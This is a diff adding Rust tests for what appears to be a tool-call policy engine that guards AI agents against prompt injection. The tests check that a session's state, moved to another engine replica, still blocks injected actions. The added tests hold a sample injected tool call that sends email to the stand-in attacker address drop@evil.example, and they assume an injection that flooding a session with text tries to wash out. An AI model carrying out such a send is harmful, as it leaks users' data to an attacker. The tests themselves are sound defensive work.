@@ -129,6 +129,20 @@ fn flooding_a_session_with_text_does_not_wash_out_an_injection() {
         d.violations[0].source.is_some(),
         "the finding still names the step: {d:?}"
     );
+    // Flooded, the session's state still moves to another engine whole.
+    let state = sessions.export("big", engine.now_millis()).unwrap();
+    let other = Arc::new(Sessions::new(sessions.limits()));
+    other
+        .import("big", Some(&state), engine.now_millis())
+        .unwrap();
+    let b = Engine::from_yaml_str(POLICY).unwrap().with_sessions(other);
+    let d = b
+        .evaluate(&request(json!({
+            "sessionId": "big",
+            "tool": {"name": "send_email", "arguments": {"to": "drop@evil.example"}}
+        })))
+        .unwrap();
+    assert_eq!(d.decision, DecisionKind::Block, "{d:?}");
 }
 
 #[test]
@@ -170,6 +184,30 @@ fn a_session_that_cannot_keep_every_value_fails_closed_and_says_so() {
     assert!(message.contains("cannot trace"), "{message}");
     // What the user named is still theirs.
     assert_eq!(send("me@home.example").decision, DecisionKind::Allow);
+
+    // The fullest a session gets (text, values kept from text let go of,
+    // the overflow) moves to another replica's engine whole: its state is
+    // taken in, and judges the same.
+    let now = engine.now_millis();
+    let state = sessions.export("s", now).unwrap();
+    let other = Arc::new(Sessions::new(sessions.limits()));
+    other.import("s", Some(&state), now).unwrap();
+    let b = Engine::from_yaml_str(POLICY).unwrap().with_sessions(other);
+    let d = b
+        .evaluate(&request(json!({
+            "sessionId": "s",
+            "tool": {"name": "send_email", "arguments": {"to": "someone@else.example"}}
+        })))
+        .unwrap();
+    assert_eq!(d.decision, DecisionKind::Block, "{d:?}");
+    assert!(
+        d.violations[0]
+            .message
+            .as_deref()
+            .unwrap_or_default()
+            .contains("cannot trace"),
+        "{d:?}"
+    );
 }
 
 #[test]
